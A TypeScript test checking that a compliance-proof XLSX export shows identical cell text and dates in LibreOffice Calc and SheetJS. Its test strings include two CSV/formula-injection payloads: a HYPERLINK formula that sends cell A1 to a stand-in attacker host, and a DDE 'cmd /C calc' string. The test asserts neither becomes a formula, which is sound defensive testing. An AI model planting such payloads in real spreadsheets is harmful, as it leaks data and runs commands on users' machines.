import { describe, expect, it } from "vitest";
import type { Proof } from "../../src/proofs/proof.js";
import { excelNumberToIso, readWorkbook } from "@compliance-graph/test-kit";
import { readWorkbookInLibreOffice } from "./read-workbook-in-libreoffice.js";
import { writeWorkbook } from "./write-workbook.js";

/**
 * The export must read the same in every spreadsheet (docs/xlsx-export.md, "Formats"). Excel
 * cannot run here; LibreOffice Calc can, and it is the reader that once showed OOXML escapes
 * literally. This test opens an export in LibreOffice and requires that every cell shows what
 * SheetJS, an independent reader that follows ECMA-376 as Excel does, reads from the same file.
 */

const pile = "💩";
const texts = [
  "plain",
  "_x0041_ stays as written",
  "_x0041_x0042_ two forms back to back",
  "x_x005F_y an escaped underscore as text",
  "_X00e9_ lower and upper hex",
  "control\u0001\u0007characters\u001f",
  "lone\rcarriage return",
  "windows\r\nline end",
  "line one\nline two\ttabbed",
  "  leading and trailing spaces  ",
  "inner   spaces",
  "markup & <b>bold</b> > less",
  '=HYPERLINK("http://attacker.test/?"&A1,"open")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  `non-BMP ${pile} and é`,
  // Cut at 32,767 characters with the pair across the cut: a naive cut leaves half a pair.
  "c".repeat(32_767 - "… [truncated]".length - 1) + pile + "d".repeat(100),
];

/**
 * LibreOffice (7.4) drops the tabs and carriage returns of a cell that has more than one line,
 * however the file writes them (as they are, as `&#9;` or `&#13;`, or as `_x0009_` or `_x000D_`):
 * the one difference this test allows, documented in docs/xlsx-export.md. In a one-line cell
 * both are kept.
 */
function libreOfficeShows(text: string): string {
  return text.includes("\n") ? text.replace(/[\t\r]/g, "") : text;
}

function proofs(): Proof[] {
  const at = (second: number) => new Date(Date.UTC(2024, 11, 31, 23, 59, second, 123));
  const base = { asset: "DTI4H95J0R2X", status: "VERIFIED" as const, dueAt: null };
  return texts.flatMap((text, index): Proof[] => [
    {
      ...base,
      __typename: "AopdSignatureProof",
      id: `signature-${index}`,
      createdAt: at(index),
      updatedAt: at(index + 1),
      address: text,
      customerId: text,
      comment: text,
      format: "P2WPKH",
      message: text,
      signature: text,
      xpub: text,
    },
    {
      ...base,
      __typename: "AopdSatoshiProof",
      id: `satoshi-${index}`,
      createdAt: at(index),
      updatedAt: at(index),
      dueAt: new Date(Date.UTC(2025, 0, 2, 0, 0, 0, 999)),
      address: text,
      customerId: text,
      comment: text,
      amount: "9".repeat(78),
      senderAddress: text,
      depositAddress: text,
      txId: text,
      assessment: "FAILED",
      blockHeight: null,
      confirmations: null,
      failureReason: null,
      decision: null,
    },
    {
      ...base,
      __typename: "AopdMediaProof",
      id: `media-${index}`,
      createdAt: at(index),
      updatedAt: at(index),
      address: text,
      customerId: text,
      comment: text,
      contentType: "image/png",
      byteSize: 1234,
      sha256: "ab".repeat(32),
      uploadedAt: new Date(Date.UTC(1999, 11, 31, 23, 59, 59, 1)),
      assessment: null,
      decision: null,
    },
  ]);
}

describe("the export in LibreOffice Calc", () => {
  it("shows every cell as SheetJS reads it: the same text, the same instants, no formula", { timeout: 180_000 }, async () => {
    // Two sheets, so the second sheet's start is read too.
    const file = await writeWorkbook([proofs()], { rowsPerSheet: texts.length * 2 });

    const expected = readWorkbook(file);
    const shown = await readWorkbookInLibreOffice(file);

    expect(shown.map((sheet) => sheet.name)).toEqual(expected.map((sheet) => sheet.name));
    let textCells = 0;
    let dateCells = 0;
    expected.forEach((sheet, s) => {
      const shownRows = (shown[s] as (typeof shown)[number]).rows;
      expect(shownRows).toHaveLength(sheet.rows.length);
      sheet.rows.forEach((row, r) => {
        const shownRow = shownRows[r] as (typeof shownRows)[number];
        while (row.length > 0 && row[row.length - 1] === null) row.pop();
        expect(shownRow.length, `sheet ${s + 1} row ${r + 1}`).toBe(row.length);
        row.forEach((cell, c) => {
          const shownCell = shownRow[c] ?? null;
          const where = `sheet ${s + 1} row ${r + 1} column ${c + 1}`;
          if (cell === null) return expect(shownCell, where).toBeNull();
          expect(shownCell, where).not.toBeNull();
          expect(shownCell?.formula, where).toBeUndefined();
          if (cell.t === "s") {
            expect(shownCell?.type, where).toBe("string");
            expect(shownCell?.text, where).toBe(libreOfficeShows(cell.v as string));
            textCells += 1;
          } else {
            expect(shownCell?.type, where).toBe("date");
            // What the date format shows, to the millisecond: the instant in UTC as the export wrote it.
            expect(shownCell?.text, where).toBe(
              excelNumberToIso(cell.v as number)
                .replace("T", " ")
                .replace("Z", ""),
            );
            dateCells += 1;
          }
        });
      });
    });
    // Every awkward text reached LibreOffice in many cells; the count guards against comparing nothing.
    expect(textCells).toBeGreaterThan(texts.length * 20);
    expect(dateCells).toBeGreaterThan(texts.length * 6);
  });
});
